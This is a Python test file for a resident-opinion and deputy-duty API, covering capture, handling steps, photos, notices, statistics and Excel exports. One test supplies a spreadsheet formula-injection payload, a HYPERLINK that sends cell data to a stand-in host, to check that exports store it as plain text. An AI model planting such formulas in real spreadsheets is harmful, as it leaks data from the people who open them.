"""REST: opinions (idempotent capture, handling, illegal steps as 409 with
the reason, photos, notices, search, statistics) and duty records, and the
Excel workbooks opened with openpyxl."""

from __future__ import annotations

import asyncio
import io
import uuid

import openpyxl

from test_api_support import at, cheap_passwords, api_hub, iso, session_body  # noqa: F401

def _png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (32, 24), (200, 60, 40)).save(out, "PNG")
    return out.getvalue()


PNG = _png()


def opinion_body(**kw):
    body = {"clientKey": str(uuid.uuid4()), "station": "xucun", "category": "11", "requestType": "complaint",
            "summary": "夜间工地噪声", "details": "22点后仍在施工", "residentName": "李先生", "residentContact": "139"}
    body.update(kw)
    return body


async def test_capture_retry_returns_the_same_opinion(hub):
    body = opinion_body()
    first = await hub.ok("POST", "/opinions", "op-xucun", expect=201, json=body)
    retry = await hub.ok("POST", "/opinions", "op-xucun", expect=200, json=body)
    assert retry["id"] == first["id"] and retry["replayed"] is True and first["replayed"] is False
    assert first["categoryName"] == "噪声扰民" and first["timeline"][0]["action"] == "submit"
    listed = await hub.ok("GET", "/opinions", "hn", params={"q": "工地噪声"})
    assert listed["total"] == 1
    # the reference number: the year received (China time) and the id; the search finds it
    assert first["reference"] == f"MQ2025-{first['id']:06d}" and listed["items"][0]["reference"] == first["reference"]
    by_reference = await hub.ok("GET", "/opinions", "hn", params={"q": first["reference"].lower()})
    assert [o["id"] for o in by_reference["items"]] == [first["id"]]
    wrong_year = await hub.ok("GET", "/opinions", "hn", params={"q": f"MQ2024-{first['id']:06d}"})
    assert wrong_year["total"] == 0
    status, err = await hub.call("POST", "/opinions", "op-xucun", json={**body, "summary": "别的事"})
    assert status == 409 and err["error"]["code"] == "idempotency_conflict"
    status, err = await hub.call("POST", "/opinions", "op-xucun", json=opinion_body(station="changan"))
    assert status == 403
    status, err = await hub.call("POST", "/opinions", "op-xucun", json=opinion_body(category="99"))
    assert status == 400 and err["error"]["reason"] == "category_unknown" and "民情类别" in err["error"]["message"]


async def test_handling_illegal_step_is_409_with_the_reason(hub):
    deputy = hub.deputies["许村代表"]
    made = await hub.ok("POST", "/opinions", "hn", expect=201,
                        json=opinion_body(deputyId=deputy, residentName="", residentContact=""))
    oid = made["id"]
    assert made["allowedActions"] == ["accept", "reject", "flag"]
    status, err = await hub.call("POST", f"/opinions/{oid}/actions", "hn", json={"action": "answer", "grade": "A",
                                                                                "answer": "x"}, lang="en")
    assert status == 409 and err["error"]["code"] == "opinion_transition_refused"
    assert "cannot answer an opinion that is submitted" in err["error"]["message"]
    status, err = await hub.call("POST", f"/opinions/{oid}/actions", "hn", json={"action": "reject"})
    assert status == 400 and err["error"]["reason"] == "note_required" and "需要填写理由" in err["error"]["message"]
    await hub.ok("POST", f"/opinions/{oid}/actions", "hn", json={"action": "accept"})
    assigned = await hub.ok("POST", f"/opinions/{oid}/actions", "hn",
                            json={"action": "assign", "level": "town", "department": "xucun-office", "note": "请处理"})
    assert assigned["status"] == "assigned" and assigned["deadline"].startswith("2025-03-07T23:59:59")
    assert assigned["notices"][0]["liaisonName"] == "钱联络"
    notices = await hub.ok("GET", "/notices", "hn", params={"department": "xucun-office", "unread": "true"})
    assert [n["opinionId"] for n in notices["items"]] == [oid]
    await hub.ok("POST", f"/notices/{notices['items'][0]['id']}/read", "hn")
    status, _ = await hub.call("POST", f"/opinions/{oid}/actions", "op-xucun", json={"action": "start"})
    assert status == 409  # an operator does not handle
    await hub.ok("POST", f"/opinions/{oid}/actions", "hn", json={"action": "start"})
    hub.clock.now = at(3, 12, 9)  # past the deadline
    late = await hub.ok("GET", f"/opinions/{oid}", "hn")
    assert late["overdue"] and late["overdueWorkingDays"] == 3
    overdue = await hub.ok("GET", "/opinions", "hn", params={"overdue": "true"})
    assert [o["id"] for o in overdue["items"]] == [oid]
    await hub.ok("POST", f"/opinions/{oid}/actions", "hn", json={"action": "answer", "grade": "A", "answer": "已整改"})
    await hub.ok("POST", f"/opinions/{oid}/actions", "op-xucun", json={"action": "feed_back"})
    await hub.ok("POST", f"/opinions/{oid}/actions", "hn", json={"action": "rate", "rating": "satisfied"})
    done = await hub.ok("POST", f"/opinions/{oid}/actions", "hn", json={"action": "close", "version": 7})
    assert done["status"] == "closed" and done["resolved"]
    assert [e["action"] for e in done["timeline"]] == ["submit", "accept", "assign", "start", "answer", "feed_back",
                                                       "rate", "close"]
    status, err = await hub.call("POST", f"/opinions/{oid}/actions", "hn", json={"action": "close"})
    assert status == 409 and err["error"]["reason"] == "opinion_final" and "已办结" in err["error"]["message"]
    # the deputy's duty records: raised + resolved
    records = await hub.ok("GET", "/duty/records", "hn", params={"deputyId": deputy})
    assert sorted(r["kind"] for r in records["items"]) == ["opinion_raised", "opinion_resolved"]


async def test_photos(hub):
    oid = (await hub.ok("POST", "/opinions", "op-xucun", expect=201, json=opinion_body()))["id"]
    token = await hub.login("op-xucun")
    async with hub.http.put(f"{hub.url}/opinions/{oid}/photos/0", data=PNG,
                            headers={"Authorization": f"Bearer {token}", "Content-Type": "image/png"}) as r:
        assert r.status == 200, await r.text()
        put = await r.json()
    async with hub.http.put(f"{hub.url}/opinions/{oid}/photos/1", data=b"not an image",
                            headers={"Authorization": f"Bearer {token}", "Content-Type": "image/png"}) as r:
        assert r.status == 400
    # the magic bytes alone are not a photo any more (store/photos.py)
    async with hub.http.put(f"{hub.url}/opinions/{oid}/photos/1", data=b"RIFF\x00\x00\x00\x00<html></html>",
                            headers={"Authorization": f"Bearer {token}", "Content-Type": "image/webp"}) as r:
        assert r.status == 400 and (await r.json())["error"]["code"] == "invalid_payload"
    status, body = await hub.call("GET", f"/opinions/{oid}/photos/0", "hn")
    assert status == 200 and body == PNG and put["size"] == len(PNG)
    detail = await hub.ok("GET", f"/opinions/{oid}", "op-xucun")
    assert [p["url"] for p in detail["photos"]] == [f"/api/opinions/{oid}/photos/0"]


async def test_statistics_ranking_and_the_hot_topic_workbook(hub):
    made = []
    for category, n in (("11", 3), ("03", 2), ("12", 1)):
        for _ in range(n):
            made.append((await hub.ok("POST", "/opinions", "hn", expect=201,
                                      json=opinion_body(category=category)))["id"])
    first = made[0]
    for step in ({"action": "accept"}, {"action": "assign", "level": "town", "department": "xucun-office"},
                 {"action": "start"}, {"action": "answer", "grade": "A", "answer": "ok"},
                 {"action": "flag", "flag": "supervision"}):
        await hub.ok("POST", f"/opinions/{first}/actions", "hn", json=step)
    await hub.ok("POST", f"/opinions/{made[1]}/actions", "hn", json={"action": "flag", "flag": "hot"})
    period = {"from": iso(at(3, 1, 0)), "to": iso(at(4, 1, 0))}
    stats = await hub.ok("GET", "/reports/opinion-stats", "hn", params=period)
    assert (stats["received"], stats["assigned"], stats["resolved"], stats["resolvedTown"]) == (6, 1, 1, 1)
    assert stats["resolutionRate"] == 1 and stats["townShare"] == 1 and stats["scope"] == "haining"
    ranking = await hub.ok("GET", "/reports/opinion-ranking", "hn", params={**period, "scope": "xucun"})
    assert [(r["category"], r["count"], r["rank"], r["previous"]) for r in ranking["items"]] == [
        ("11", 3, 1, 0), ("03", 2, 2, 0), ("12", 1, 3, 0)]
    # March is compared with February (the calendar month), not with the 31 days before
    assert (ranking["previousFrom"], ranking["previousTo"]) == (iso(at(2, 1, 0)), iso(at(3, 1, 0)))
    week = await hub.ok("GET", "/reports/opinion-ranking", "hn", params={"from": iso(at(3, 3, 0)), "to": iso(at(3, 10, 0))})
    assert (week["previousFrom"], week["previousTo"]) == (iso(at(2, 24, 0)), iso(at(3, 3, 0)))
    status, _ = await hub.call("GET", "/reports/opinion-stats", "op-xucun", params={**period, "scope": "changan"})
    assert status == 403
    status, _ = await hub.call("GET", "/reports/opinion-stats", "hn", params={"from": period["to"], "to": period["from"]})
    assert status == 400

    status, data = await hub.call("GET", "/reports/hot-topics.xlsx", "hn", params={**period, "scope": "xucun"})
    assert status == 200
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["概况", "分类排行", "重点事项", "督办候选", "超期事项"]
    overview = {row[0]: row[1:] for row in wb["概况"].iter_rows(min_row=2, values_only=True)}
    assert overview["期间"][0] == "2025-03-01 至 2025-03-31" and overview["上期"][0] == "2025-02-01 至 2025-02-28"
    assert overview["收到民情"] == (6, 0) and overview["办结"] == (1, 0) and overview["办结率"][0] == 1
    ranks = [row[:6] for row in wb["分类排行"].iter_rows(min_row=2, values_only=True)]
    assert ranks == [(1, "11", "噪声扰民", 3, 0, 3), (2, "03", "市政设施", 2, 0, 2), (3, "12", "环境卫生与垃圾分类", 1, 0, 1)]
    assert [row[0] for row in wb["督办候选"].iter_rows(min_row=2, values_only=True)] == [first]
    # the item sheets in words (issue 14: they showed answered, town, xucun-office)
    header = [c.value for c in wb["督办候选"][1]]
    item = dict(zip(header, next(wb["督办候选"].iter_rows(min_row=2, values_only=True))))
    assert (item["状态"], item["层级"], item["承办单位"]) == ("已答复", "镇级", "许村镇党政办公室")
    assert [row[0] for row in wb["重点事项"].iter_rows(min_row=2, values_only=True)] == [made[1]]
    assert [c.value for c in wb["重点事项"][1]][:3] == ["编号", "民情编号", "收到时间"]
    assert [row[1] for row in wb["重点事项"].iter_rows(min_row=2, values_only=True)] == [f"MQ2025-{made[1]:06d}"]


async def test_duty_records_review_and_the_ledger_workbook(hub):
    deputy = hub.deputies["许村代表"]
    made = await hub.ok("POST", "/duty/records", "hn", expect=201, json={
        "deputyId": deputy, "kind": "station_reception", "occasion": "reception:2025-03-01",
        "occurredAt": iso(at(3, 1, 9))})
    assert made["status"] == "pending" and made["points"] == 2 and made["kindName"] == "进站接待选民"
    assert made["createdBy"] == hub.ids["hn"]
    status, err = await hub.call("POST", f"/duty/records/{made['id']}/review", "hn", json={"approve": False})
    assert status == 400
    # a dispatcher never approves a record it entered itself (issue 8); another dispatcher in scope does
    status, err = await hub.call("POST", f"/duty/records/{made['id']}/review", "hn", json={"approve": True})
    assert status == 403 and err["error"]["code"] == "forbidden"
    reviewed = await hub.ok("POST", f"/duty/records/{made['id']}/review", "jx", json={"approve": True})
    assert reviewed["status"] == "approved"
    status, err = await hub.call("POST", f"/duty/records/{made['id']}/review", "jx", json={"approve": True})
    assert status == 409 and err["error"]["code"] == "duty_review_refused"
    sid = (await hub.ok("POST", "/sessions", "hn", expect=201, json=session_body()))["id"]
    hub.clock.now = at(3, 7, 17)  # after the session
    added = await hub.ok("POST", "/duty/attendance", "hn", json={
        "sessionId": sid, "occurrenceStart": iso(at(3, 7, 14)),
        "stays": [{"deputyId": deputy, "joinedAt": iso(at(3, 7, 14)), "minutes": 60}]})
    assert added["added"] == 1
    joined = (await hub.ok("GET", "/duty/records", "hn", params={"kind": "session_joined"}))["items"][0]
    assert joined["status"] == "pending" and joined["manual"]
    await hub.ok("POST", f"/duty/records/{joined['id']}/review", "admin", json={"approve": True})
    status, _ = await hub.call("POST", "/duty/records", "op-xucun", json={
        "deputyId": deputy, "kind": "inspection", "occasion": "x", "occurredAt": iso(at(3, 1, 9))})
    assert status == 403
    period = {"from": iso(at(3, 1, 0)), "to": iso(at(4, 1, 0))}
    ledger = await hub.ok("GET", "/duty/ledger", "hn", params={**period, "by": "town"})
    assert [(r["key"], r["points"], r["records"]) for r in ledger["items"]] == [("xucun", 3, 2)]
    status, data = await hub.call("GET", "/duty/ledger.xlsx", "hn", params=period)
    assert status == 200
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames[:4] == ["代表-代表", "代表-代表小组", "代表-镇（街道）", "代表-全市"]
    rows = list(wb["代表-代表"].iter_rows(min_row=3, values_only=True))
    assert rows[0][:5] == ("许村代表", 1, 2, 3, 0)
    assert list(wb["代表-全市"].iter_rows(min_row=3, values_only=True))[0][3] == 3


async def test_attendance_by_hand_needs_scope_a_real_past_occurrence_and_waits_for_review(hub):
    """issue 8 (item 1, review HIGH-1): a Xucun dispatcher gave approved
    attendance points to a Chang'an deputy, for a session that did not
    exist, once per invented date."""
    from test_api_support import PASSWORD
    xucun, changan = hub.deputies["许村代表"], hub.deputies["长安代表"]
    await hub.ok("POST", "/accounts", "admin", expect=201,
                 json={"username": "disp-xucun", "password": PASSWORD, "role": "dispatcher", "station": "xucun"})
    linked = (await hub.ok("POST", "/sessions", "hn", expect=201, json=session_body()))["id"]  # Xucun + Chang'an
    own = (await hub.ok("POST", "/sessions", "hn", expect=201, json=session_body(
        title="许村与荣星", chair="xucun", stations=["xucun-rongxing"], start=iso(at(3, 7, 10)),
        end=iso(at(3, 7, 12)))))["id"]
    hub.clock.now = at(3, 7, 17)

    def body(session, *deputies, start=None, joined=None, minutes=60):
        start = start or (at(3, 7, 10) if session == own else at(3, 7, 14))
        joined = joined or start
        return {"sessionId": session, "occurrenceStart": iso(start),
                "stays": [{"deputyId": d, "joinedAt": iso(joined), "minutes": minutes} for d in deputies]}

    async def refused(who, payload, status, code):
        got, err = await hub.call("POST", "/duty/attendance", who, json=payload)
        assert (got, err["error"]["code"]) == (status, code), err

    await refused("disp-xucun", body(999999, xucun), 404, "session_not_found")
    await refused("disp-xucun", body(own, changan), 403, "forbidden")  # the deputy lies outside its scope
    await refused("disp-xucun", body(linked, xucun), 403, "forbidden")  # it does not control the session
    await refused("hn", body(linked, xucun, start=at(3, 8, 14)), 404, "occurrence_not_found")  # an invented one
    await refused("hn", body(linked, xucun, joined=at(3, 6, 14)), 400, "invalid_payload")  # a stay outside it
    await refused("hn", body(linked, xucun, minutes=600), 400, "invalid_payload")  # longer than it lasted
    await refused("op-xucun", body(own, xucun), 403, "forbidden")
    hub.clock.now = at(3, 7, 15)
    await refused("hn", body(linked, xucun), 400, "invalid_payload")  # not over yet
    hub.clock.now = at(3, 7, 17)

    assert (await hub.ok("POST", "/duty/attendance", "disp-xucun", json=body(own, xucun)))["added"] == 1
    assert (await hub.ok("POST", "/duty/attendance", "hn", json=body(linked, xucun, changan)))["added"] == 2
    assert (await hub.ok("POST", "/duty/attendance", "hn", json=body(linked, xucun, changan)))["added"] == 0
    records = (await hub.ok("GET", "/duty/records", "hn", params={"kind": "session_joined"}))["items"]
    assert len(records) == 3 and {(r["status"], r["manual"]) for r in records} == {("pending", True)}
    period = {"from": iso(at(3, 1, 0)), "to": iso(at(4, 1, 0))}
    ledger = await hub.ok("GET", "/duty/ledger", "hn", params={**period, "by": "city"})
    assert (ledger["items"][0]["points"], ledger["items"][0]["pending"]) == (0, 3)  # nothing counts before review
    mine = next(r for r in records if r["deputyId"] == xucun and r["occasion"].startswith(f"session:{own}@"))
    status, _ = await hub.call("POST", f"/duty/records/{mine['id']}/review", "disp-xucun", json={"approve": True})
    assert status == 403  # its own entry
    await hub.ok("POST", f"/duty/records/{mine['id']}/review", "hn", json={"approve": True})


async def test_capture_credits_only_an_active_deputy_of_the_callers_scope(hub):
    """issue 8 (item 3, review MEDIUM-1)."""
    xucun, changan, jiaxing = (hub.deputies[n] for n in ("许村代表", "长安代表", "嘉兴代表"))

    def by(deputy, **kw):
        return opinion_body(deputyId=deputy, residentName="", residentContact="", **kw)

    status, err = await hub.call("POST", "/opinions", "op-xucun", json=by(changan))
    assert status == 403 and err["error"]["code"] == "forbidden"  # another town's deputy
    status, _ = await hub.call("POST", "/opinions", "hn", json=by(jiaxing))
    assert status == 403  # above the dispatcher's subtree
    await hub.ok("POST", "/opinions", "op-xucun", expect=201, json=by(xucun))
    await hub.ok("POST", "/opinions", "hn", expect=201, json=by(changan, station="changan"))
    await hub.ok("POST", f"/deputies/{changan}/deactivate", "hn")
    status, err = await hub.call("POST", "/opinions", "hn", json=by(changan, station="changan"))
    assert status == 400 and err["error"]["code"] == "invalid_payload"  # deactivated
    raised = await hub.ok("GET", "/duty/records", "admin", params={"kind": "opinion_raised"})
    assert sorted(r["deputyId"] for r in raised["items"]) == sorted([xucun, changan])


async def test_a_capture_names_a_session_the_caller_sees_and_its_station_is_part_of(hub):
    """issue 8 (item 4, review MEDIUM-2), with LOW-5 (a cancelled session's
    link captures no more) and LOW-6 (a session's opinions need sight of
    the session)."""
    from core import tokens
    from test_api_support import SECRET
    linked = (await hub.ok("POST", "/sessions", "hn", expect=201, json=session_body()))["id"]  # Xucun + Chang'an
    other = (await hub.ok("POST", "/sessions", "hn", expect=201, json=session_body(
        stations=["changan", "dingqiao"], start=iso(at(3, 8, 14)), end=iso(at(3, 8, 16)))))["id"]

    async def capture(who, **kw):
        status, body = await hub.call("POST", "/opinions", who, json=opinion_body(**kw))
        return status, body["error"]["code"] if status >= 400 else body

    assert await capture("op-xucun", sessionId=999999) == (404, "session_not_found")
    assert await capture("op-xucun", sessionId=other) == (403, "forbidden")  # Xucun does not see it
    assert await capture("hn", station="yanguan", sessionId=linked) == (403, "forbidden")  # not one of its stations
    status, made = await capture("op-xucun", sessionId=linked)
    assert status == 201 and made["sessionId"] == linked
    link = {"Authorization": "Bearer " + tokens.sign(SECRET, str(linked), "station:changan", "station", 600)}

    async def by_link(**kw):
        async with hub.http.post(f"{hub.url}/opinions", json=opinion_body(station="changan", **kw), headers=link) as r:
            return r.status

    assert await by_link(sessionId=other) == 403  # Chang'an is in it, but the link is for another session
    assert await by_link(sessionId=linked) == 201

    status, err = await hub.call("GET", f"/sessions/{other}/opinions", "op-xucun")
    assert status == 403 and err["error"]["code"] == "forbidden"
    assert [o["id"] for o in (await hub.ok("GET", f"/sessions/{linked}/opinions", "op-xucun"))["items"]] in ([], [made["id"]])

    await hub.ok("POST", f"/sessions/{linked}/cancel", "hn")
    assert await by_link(sessionId=linked) == 401  # a cancelled session's link admits nobody
    assert await by_link() == 401


async def test_workbooks_write_what_users_typed_as_text_never_as_a_formula(hub):
    """issue 8 (item 5, review MEDIUM-3)."""
    formula = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"点击查看详情")'
    made = await hub.ok("POST", "/opinions", "op-xucun", expect=201, json=opinion_body(summary=formula))
    await hub.ok("POST", f"/opinions/{made['id']}/actions", "hn", json={"action": "flag", "flag": "hot"})
    period = {"from": iso(at(3, 1, 0)), "to": iso(at(4, 1, 0))}
    status, data = await hub.call("GET", "/reports/hot-topics.xlsx", "hn", params=period)
    assert status == 200
    cell = openpyxl.load_workbook(io.BytesIO(data))["重点事项"]["G2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)
    assert b"<f>" not in _sheet_xml(data)

    deputy = (await hub.ok("POST", "/deputies", "hn", expect=201, json={
        "name": "=1+2", "level": "haining", "station": "xucun", "group": "@group"}))["id"]
    record = await hub.ok("POST", "/duty/records", "hn", expect=201, json={
        "deputyId": deputy, "kind": "station_reception", "occasion": "reception:2025-03-01",
        "occurredAt": iso(at(3, 1, 9))})
    await hub.ok("POST", f"/duty/records/{record['id']}/review", "jx", json={"approve": True})
    status, data = await hub.call("GET", "/duty/ledger.xlsx", "hn", params=period)
    assert status == 200
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for sheet, value in (("代表-代表", "=1+2"), ("代表-代表小组", "@group")):
        cell = wb[sheet]["A3"]
        assert (cell.value, cell.data_type) == (value, "s"), sheet
    assert b"<f>" not in _sheet_xml(data)


def _sheet_xml(data: bytes) -> bytes:
    """Every worksheet's XML of a workbook, joined."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


async def test_department_notices_stay_within_the_dispatchers_scope(hub):
    from test_api_support import PASSWORD
    await hub.ok("POST", "/accounts", "admin", expect=201,
                 json={"username": "disp-changan", "password": PASSWORD, "role": "dispatcher", "station": "changan"})
    made = await hub.ok("POST", "/opinions", "hn", expect=201, json=opinion_body())
    oid = made["id"]
    await hub.ok("POST", f"/opinions/{oid}/actions", "hn", json={"action": "accept"})
    await hub.ok("POST", f"/opinions/{oid}/actions", "hn",
                 json={"action": "assign", "level": "town", "department": "xucun-office"})
    mine = await hub.ok("GET", "/notices", "hn")
    assert [n["opinionId"] for n in mine["items"]] == [oid]
    other = await hub.ok("GET", "/notices", "disp-changan")
    assert other["items"] == []  # a Xucun opinion is none of Chang'an's business
    status, _ = await hub.call("POST", f"/notices/{mine['items'][0]['id']}/read", "disp-changan")
    assert status == 404


async def read_events(response, count):
    """The next ``count`` Server-Sent Events of a response, as (event, data)."""
    import json as _json

    out, event, data = [], None, []
    while len(out) < count:
        line = (await asyncio.wait_for(response.content.readline(), 5)).decode().rstrip("\n")
        if line.startswith("event: "):
            event = line[7:]
        elif line.startswith("data: "):
            data.append(line[6:])
        elif line == "" and event:
            out.append((event, _json.loads("\n".join(data))))
            event, data = None, []
    return out


async def test_the_console_stream_tells_each_caller_of_the_opinions_it_may_see(hub):
    status, _ = await hub.call("GET", "/opinion-events")
    assert status == 401  # a login is needed
    headers = lambda who: {"Authorization": f"Bearer {hub.tokens[who]}"}  # noqa: E731
    for who in ("hn", "op-xucun"):
        await hub.login(who)
    async with hub.http.get(f"{hub.url}/opinion-events", headers=headers("hn")) as hn, \
            hub.http.get(f"{hub.url}/opinion-events", headers=headers("op-xucun")) as op:
        assert hn.status == 200 and hn.content_type == "text/event-stream"
        assert await read_events(hn, 1) == [("ready", {"resync": False})]
        assert await read_events(op, 1) == [("ready", {"resync": False})]
        deputy = hub.deputies["长安代表"]
        changan = await hub.ok("POST", "/opinions", "hn", expect=201,
                               json=opinion_body(station="changan", deputyId=deputy, residentName="",
                                                 residentContact=""))
        xucun = await hub.ok("POST", "/opinions", "op-xucun", expect=201, json=opinion_body())
        await hub.ok("POST", f"/opinions/{xucun['id']}/actions", "hn", json={"action": "accept"})
        (e1, d1), (e2, d2), (e3, d3) = await read_events(hn, 3)
        assert (e1, d1["kind"], d1["action"], d1["opinion"]["id"]) == ("opinion", "captured", "submit", changan["id"])
        assert d1["opinion"]["raiserName"] == "长安代表" and d1["opinion"]["sessionId"] is None
        assert (d2["kind"], d2["opinion"]["id"]) == ("captured", xucun["id"])
        assert (d3["kind"], d3["action"], d3["opinion"]["status"]) == ("updated", "accept", "accepted")
        # the operator of xucun is not told of changan's opinion
        (e1, d1), (e2, d2) = await read_events(op, 2)
        assert [d1["opinion"]["id"], d2["opinion"]["id"]] == [xucun["id"], xucun["id"]]
        assert [d1["kind"], d2["kind"]] == ["captured", "updated"]
    assert len(hub.services.opinion_stream) == 0 or await _drained(hub)


async def _drained(hub) -> bool:
    """Closed streams leave the broker (at the next write or heartbeat)."""
    await hub.ok("POST", "/opinions", "hn", expect=201, json=opinion_body())
    for _ in range(50):
        if len(hub.services.opinion_stream) == 0:
            return True
        await asyncio.sleep(0.05)
    return False


async def test_the_scoring_kinds_and_the_raising_deputys_name(hub):
    status, _ = await hub.call("GET", "/duty/kinds")
    assert status == 401
    kinds = {k["kind"]: k for k in (await hub.ok("GET", "/duty/kinds", "hn"))["items"]}
    assert kinds["station_reception"] == {"kind": "station_reception", "name": "进站接待选民",
                                          "nameEn": "Station reception duty", "points": 2, "manual": True,
                                          "minMinutes": 0}
    assert kinds["unexcused_absence"]["points"] == -1 and kinds["session_joined"]["minMinutes"] == 10
    assert sorted(k for k, v in kinds.items() if not v["manual"]) == ["opinion_raised", "opinion_resolved",
                                                                      "session_joined"]
    status, _ = await hub.call("GET", "/duty/kinds", "hn", params={"manual": "true"})
    assert status == 400  # no such parameter

    deputy = hub.deputies["许村代表"]
    by_deputy = await hub.ok("POST", "/opinions", "hn", expect=201,
                             json=opinion_body(deputyId=deputy, residentName="", residentContact=""))
    by_resident = await hub.ok("POST", "/opinions", "hn", expect=201, json=opinion_body())
    assert by_deputy["deputyName"] == "许村代表" and by_resident["deputyName"] is None
    assert (await hub.ok("GET", f"/opinions/{by_deputy['id']}", "hn"))["deputyName"] == "许村代表"
    listed = {o["id"]: o["deputyName"] for o in (await hub.ok("GET", "/opinions", "hn"))["items"]}
    assert listed == {by_deputy["id"]: "许村代表", by_resident["id"]: None}


async def test_opinion_news_reaches_the_console_streams_of_every_hub_process(hub):
    """Two API instances on one database, as two hub processes, with their
    streams joined through real Redis: an opinion stored through one reaches
    a console whose stream is held by the other, once, and the local one
    too, once."""
    import dataclasses
    import uuid as _uuid

    from aiohttp import web

    from api.stream import OpinionStream
    from api.stream_bus import RedisOpinionBus, channel_for, decode, encode
    from test_api_support import parent_app

    channel = channel_for(f"test-{_uuid.uuid4()}")
    # each process has its own Redis bus, its stream listening to it (ApiServices wires that)
    here = RedisOpinionBus("redis://127.0.0.1:6379/0", channel)
    there = RedisOpinionBus("redis://127.0.0.1:6379/0", channel)
    first_bus = hub.services.opinion_events
    hub.services.opinion_events = here
    here.listen(hub.services.opinion_stream)
    other_services = dataclasses.replace(hub.services, opinion_events=there, opinion_stream=OpinionStream())
    pushed: list[tuple[str, int]] = []  # the other process's live console push, on the same bus

    class Console:
        async def opinion_changed(self, news) -> None:
            pushed.append((news.kind, news.id))

    there.listen(Console())
    for bus in (here, there):
        await bus.start()
        await bus.wait_subscribed()
    runner = web.AppRunner(parent_app(other_services))
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    other_url = f"http://127.0.0.1:{site._server.sockets[0].getsockname()[1]}/api"  # type: ignore[union-attr]
    try:
        token = await hub.login("hn")
        headers = {"Authorization": f"Bearer {token}"}
        async with hub.http.get(f"{other_url}/opinion-events", headers=headers) as far, \
                hub.http.get(f"{hub.url}/opinion-events", headers=headers) as near:
            assert await read_events(far, 1) == [("ready", {"resync": False})]
            assert await read_events(near, 1) == [("ready", {"resync": False})]
            stored = await hub.ok("POST", "/opinions", "hn", expect=201, json=opinion_body())
            for response in (far, near):
                (event, data), = await read_events(response, 1)
                assert (event, data["kind"], data["opinion"]["id"]) == ("opinion", "captured", stored["id"])
            # exactly once: the next event on each stream is the next change, not a copy
            await hub.ok("POST", f"/opinions/{stored['id']}/actions", "hn", json={"action": "accept"})
            for response in (far, near):
                (event, data), = await read_events(response, 1)
                assert (data["kind"], data["action"]) == ("updated", "accept")
        assert here.delivered == 2 and there.delivered == 2
        assert pushed == [("captured", stored["id"]), ("updated", stored["id"])]
    finally:
        hub.services.opinion_events = first_bus
        await runner.cleanup()
        for bus in (here, there):
            await bus.stop()
    # the wire form keeps every field
    news = decode(encode(decode(encode(_sample_news()))))
    assert news == _sample_news()


def _sample_news():
    from datetime import datetime, timezone

    from opinions.news import LiveOpinionOut, OpinionNews

    return OpinionNews(kind="captured", action="submit", town="xucun", opinion=LiveOpinionOut(
        id=7, status="submitted", station="xucun", station_name="许村", station_name_en="Xucun",
        raised_by="resident", raiser_name="李先生", deputy_id=None, category="11", category_name="噪声扰民",
        category_name_en="Noise nuisance", request_type="complaint", summary="夜间工地噪声", session_id=3,
        session_offset=125, captured_at=datetime(2026, 11, 27, 14, 3, tzinfo=timezone.utc), level=None,
        department=None, department_name=None, department_name_en=None, version=1, reference="MQ2026-000007",
    ))


async def test_the_console_is_told_when_the_calendar_lacks_a_year(hub, caplog):
    """The options name the current or next year when the official holidays
    are missing for it; the hub logs the same at start-up."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from api.opinions import rules_of
    from hub.app import warn_of_calendar_gaps
    from opinions.official import official_years

    last = max(official_years())
    hub.clock.now = datetime(last - 1, 12, 1, 9, tzinfo=ZoneInfo("Asia/Shanghai"))
    hub.tokens.clear()  # logins made at the fixture's date have expired by then
    assert (await hub.ok("GET", "/opinion-options", "hn"))["calendarMissingYears"] == []
    hub.clock.now = datetime(last, 12, 1, 9, tzinfo=ZoneInfo("Asia/Shanghai"))
    hub.tokens.clear()
    assert (await hub.ok("GET", "/opinion-options", "hn"))["calendarMissingYears"] == [last + 1]
    with caplog.at_level("WARNING", logger="hub"):
        assert warn_of_calendar_gaps(rules_of(hub.services), hub.clock.now) == [last + 1]
    assert f"no official holidays for {last + 1}" in caplog.text
